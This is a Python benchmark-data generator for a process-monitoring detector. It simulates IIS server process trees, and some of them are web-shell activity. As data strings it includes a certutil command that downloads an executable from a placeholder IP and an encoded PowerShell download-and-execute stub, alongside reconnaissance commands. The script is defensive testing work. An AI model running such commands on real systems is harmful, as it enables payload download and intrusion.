#!/usr/bin/env python3
"""Generate spawnwatch event lines (the `--record` format) for pipeline benchmarks.

    python3 bench/gen_events.py N [OUT] [--seed S] [--hosts H]

Writes N lines (stdout when OUT is missing or `-`). Every line is a process event
(create or terminate), so every line goes through parse -> table -> workers.

The stream looks like a small farm of IIS servers seen over a day:
  * per host a stable base (System, smss, services, svchost, several w3wp.exe
    application-pool workers, explorer, ...), written once at the start;
  * ordinary activity: svchost/services children (conhost, WmiPrvSE, taskhostw,
    backgroundTaskHost, ...), w3wp.exe starting csc.exe/conhost.exe for ASP.NET
    compilation, scheduled tasks running cmd.exe /c some.bat with children, admins'
    powershell sessions under explorer;
  * about 1% of trees are web-shell trees: w3wp.exe -> cmd.exe /c whoami|ipconfig|net
    user|..., sometimes cmd -> whoami.exe / powershell -enc ..., sometimes w3wp ->
    whoami.exe directly;
  * short-lived processes are terminated a few events later; pids are small multiples
    of 4 (as on Windows) drawn from a bounded pool, so they get reused often;
  * timestamps move forward by a few milliseconds a line.

Standard library only; deterministic for a given seed.
"""

import argparse
import json
import random
import sys
from collections import deque
from datetime import datetime, timedelta, timezone

SYS32 = "C:\\Windows\\System32\\"
SYSTEM = "NT AUTHORITY\\SYSTEM"
NETSVC = "NT AUTHORITY\\NETWORK SERVICE"
LOCALSVC = "NT AUTHORITY\\LOCAL SERVICE"
POOLS = ["DefaultAppPool", "Intranet", "ShopFront", "Api", "Exchange"]

# (image, command line, user) for ordinary children of system services.
SERVICE_CHILDREN = [
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", SYSTEM),
    (SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", NETSVC),
    (SYS32 + "taskhostw.exe", "taskhostw.exe Install $(Arg0)", SYSTEM),
    (SYS32 + "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", LOCALSVC),
    (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s BITS", SYSTEM),
    (SYS32 + "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe1_ Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646", SYSTEM),
    (SYS32 + "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", NETSVC),
    ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -wdenable", SYSTEM),
    (SYS32 + "wermgr.exe", "C:\\Windows\\system32\\wermgr.exe -upload", SYSTEM),
    ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\ngen.exe", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\ngen.exe\" install System.Web", SYSTEM),
]

# Benign children of w3wp.exe (ASP.NET dynamic compilation).
W3WP_BENIGN = [
    ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
     "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\{}\\{}.cmdline\""),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe",
     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\cvtres.exe /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES{}.tmp\""),
]

# What an operator types into a web shell: (image, command line).
SHELL_COMMANDS = [
    (SYS32 + "whoami.exe", "whoami"),
    (SYS32 + "whoami.exe", "whoami /all"),
    (SYS32 + "ipconfig.exe", "ipconfig /all"),
    (SYS32 + "net.exe", "net user"),
    (SYS32 + "net.exe", "net localgroup administrators"),
    (SYS32 + "systeminfo.exe", "systeminfo"),
    (SYS32 + "tasklist.exe", "tasklist /v"),
    (SYS32 + "netstat.exe", "netstat -ano"),
    (SYS32 + "nltest.exe", "nltest /domain_trusts"),
    (SYS32 + "certutil.exe", "certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Windows\\Temp\\a.exe"),
    (SYS32 + "hostname.exe", "hostname"),
]

# Benign batch jobs and admin tools.
TASK_COMMANDS = [
    (SYS32 + "cmd.exe", "cmd.exe /c C:\\Scripts\\rotate-logs.bat"),
    (SYS32 + "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"C:\\inetpub\\scripts\\warmup.cmd\""),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Backup-IisConfig.ps1"),
]
TASK_CHILDREN = [
    (SYS32 + "robocopy.exe", "robocopy C:\\inetpub\\logs D:\\archive\\logs /MOV /MINAGE:7"),
    (SYS32 + "inetsrv\\appcmd.exe", "C:\\Windows\\system32\\inetsrv\\appcmd.exe list apppool"),
    (SYS32 + "findstr.exe", "findstr /i error C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex261127.log"),
    (SYS32 + "forfiles.exe", "forfiles /p C:\\inetpub\\logs /s /m *.log /d -30 /c \"cmd /c del @path\""),
    (SYS32 + "tzutil.exe", "tzutil /g"),
]
ADMIN_TOOLS = [
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\""),
    (SYS32 + "mmc.exe", "\"C:\\Windows\\system32\\mmc.exe\" \"C:\\Windows\\system32\\inetsrv\\iis.msc\""),
    (SYS32 + "notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\" C:\\inetpub\\wwwroot\\web.config"),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle=1712"),
]


class Host:
    def __init__(self, name, rng, writer):
        self.name = name
        self.rng = rng
        self.w = writer
        self.free = deque()
        pool = list(range(1000, 1000 + 4 * 4096, 4))  # a bounded pool: pids get reused
        rng.shuffle(pool)
        self.free.extend(pool)
        self.live = {}  # pid -> (image, cmdline, user)
        self.pending = deque()  # (due line number, pid) to terminate
        self.base()

    def take_pid(self):
        if not self.free:
            # Very busy host: terminate the oldest short-lived process first.
            self.flush(force=True)
        return self.free.popleft()

    def create(self, pid, ppid, image, cmd, user, lifetime=None):
        parent = self.live.get(ppid)
        rec = {
            "timestamp": self.w.stamp(),
            "hostname": self.name,
            "action": "create",
            "pid": pid,
            "ppid": ppid,
            "image_path": image,
            "command_line": cmd,
            "user": user,
        }
        if parent is not None:
            rec["parent_image_path"] = parent[0]
            rec["parent_command_line"] = parent[1]
        self.w.emit(rec)
        self.live[pid] = (image, cmd, user)
        if lifetime is not None:
            self.pending.append((self.w.count + lifetime, pid))
        return pid

    def spawn(self, ppid, image, cmd, user, lifetime):
        return self.create(self.take_pid(), ppid, image, cmd, user, lifetime)

    def terminate(self, pid):
        self.w.emit({"timestamp": self.w.stamp(), "hostname": self.name,
                     "action": "terminate", "pid": pid})
        self.live.pop(pid, None)
        self.free.append(pid)

    def flush(self, force=False):
        while self.pending and (force or self.pending[0][0] <= self.w.count):
            _, pid = self.pending.popleft()
            self.terminate(pid)
            if force:
                return

    def base(self):
        rng = self.rng
        self.create(4, 0, "System", "", SYSTEM)
        smss = self.create(self.take_pid(), 4, SYS32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe", SYSTEM)
        wininit = self.create(self.take_pid(), smss, SYS32 + "wininit.exe", "wininit.exe", SYSTEM)
        self.services = self.create(self.take_pid(), wininit, SYS32 + "services.exe", "C:\\Windows\\system32\\services.exe", SYSTEM)
        self.svchosts = [
            self.create(self.take_pid(), self.services, SYS32 + "svchost.exe",
                        "C:\\Windows\\system32\\svchost.exe -k " + k, SYSTEM)
            for k in ["DcomLaunch -p", "netsvcs -p", "LocalService -p", "NetworkService -p", "iissvcs", "Schedule"]
        ]
        self.was = self.svchosts[4]
        self.scheduler = self.svchosts[5]
        self.w3wp = [
            self.create(self.take_pid(), self.was, SYS32 + "inetsrv\\w3wp.exe",
                        "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"%s\" -v \"v4.0\" -l \"webengine4.dll\" -a \\\\.\\pipe\\iisipm%08x -h \"C:\\inetpub\\temp\\apppools\\%s\\%s.config\" -w \"\" -m 0 -t 20 -ta 0"
                        % (p, rng.getrandbits(32), p, p),
                        "IIS APPPOOL\\" + p)
            for p in POOLS[: rng.randint(2, len(POOLS))]
        ]
        self.explorer = self.create(self.take_pid(), self.services, "C:\\Windows\\explorer.exe",
                                    "C:\\Windows\\Explorer.EXE", "WEB\\admin")

    def step(self):
        """One tree (or part of one); about 1% are web-shell trees."""
        rng = self.rng
        r = rng.random()
        if r < 0.01:
            self.webshell_tree()
        elif r < 0.03:
            self.recycle_app_pool()
        elif r < 0.20:
            w = rng.choice(self.w3wp)
            image, cmd = rng.choice(W3WP_BENIGN)
            cmd = cmd.format("%08x" % rng.getrandbits(32), "%08x" % rng.getrandbits(32))
            csc = self.spawn(w, image, cmd, self.live[w][2], rng.randint(2, 40))
            if image.endswith("csc.exe"):
                i2, c2 = W3WP_BENIGN[2]
                self.spawn(csc, i2, c2.format("%04X" % rng.getrandbits(16)), self.live[w][2], rng.randint(1, 10))
        elif r < 0.30:
            image, cmd = rng.choice(TASK_COMMANDS)
            job = self.spawn(self.scheduler, image, cmd, SYSTEM, rng.randint(5, 60))
            self.spawn(job, SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", SYSTEM, rng.randint(5, 60))
            for _ in range(rng.randint(1, 3)):
                i2, c2 = rng.choice(TASK_CHILDREN)
                self.spawn(job, i2, c2, SYSTEM, rng.randint(1, 30))
        elif r < 0.35:
            image, cmd = rng.choice(ADMIN_TOOLS)
            self.spawn(self.explorer, image, cmd, "WEB\\admin", rng.randint(20, 400))
        else:
            image, cmd, user = rng.choice(SERVICE_CHILDREN)
            parent = rng.choice(self.svchosts + [self.services])
            self.spawn(parent, image, cmd, user, rng.randint(1, 200))

    def webshell_tree(self):
        rng = self.rng
        w = rng.choice(self.w3wp)
        user = self.live[w][2]
        k = rng.random()
        if k < 0.2:
            # w3wp -> whoami.exe directly (a web shell calling Process.Start).
            image, cmd = rng.choice(SHELL_COMMANDS)
            self.spawn(w, image, cmd, user, rng.randint(1, 10))
            return
        image, cmd = rng.choice(SHELL_COMMANDS)
        if k < 0.35:
            shell = self.spawn(w, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                               "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                               user, rng.randint(3, 20))
        else:
            shell = self.spawn(w, SYS32 + "cmd.exe",
                               "cmd.exe /c \"cd /d \"C:\\inetpub\\wwwroot\\\"&%s&echo [S]&cd&echo [E]\"" % cmd,
                               user, rng.randint(3, 20))
        self.spawn(shell, SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", user, rng.randint(3, 20))
        self.spawn(shell, image, cmd, user, rng.randint(1, 10))

    def recycle_app_pool(self):
        """IIS recycles a worker: the old w3wp ends, a new one starts (a new pid)."""
        rng = self.rng
        i = rng.randrange(len(self.w3wp))
        old = self.w3wp[i]
        image, cmd, user = self.live[old]
        new = self.create(self.take_pid(), self.was, image, cmd, user)
        self.w3wp[i] = new
        self.terminate(old)


class Writer:
    def __init__(self, out, total):
        self.out = out
        self.total = total
        self.count = 0
        self.t = datetime(2026, 11, 27, 0, 0, 0, tzinfo=timezone.utc)
        self.rng = random.Random(7)
        self.buf = []
        self.dumps = json.JSONEncoder(ensure_ascii=False, separators=(",", ":")).encode

    def stamp(self):
        self.t += timedelta(microseconds=self.rng.randint(100, 9000))
        return self.t.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (self.t.microsecond // 1000)

    def emit(self, rec):
        if self.count >= self.total:
            return
        self.buf.append(self.dumps(rec))
        self.count += 1
        if len(self.buf) >= 4096:
            self.drain()

    def drain(self):
        if self.buf:
            self.out.write("\n".join(self.buf))
            self.out.write("\n")
            self.buf = []

    def done(self):
        return self.count >= self.total


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("n", type=int, help="number of lines")
    ap.add_argument("out", nargs="?", default="-")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--hosts", type=int, default=4)
    args = ap.parse_args()
    out = sys.stdout if args.out == "-" else open(args.out, "w", encoding="utf-8", newline="\n")
    rng = random.Random(args.seed)
    w = Writer(out, args.n)
    hosts = [Host("WEB%02d" % (i + 1), rng, w) for i in range(args.hosts)]
    while not w.done():
        h = rng.choice(hosts)
        h.step()
        h.flush()
    w.drain()
    if out is not sys.stdout:
        out.close()


if __name__ == "__main__":
    main()
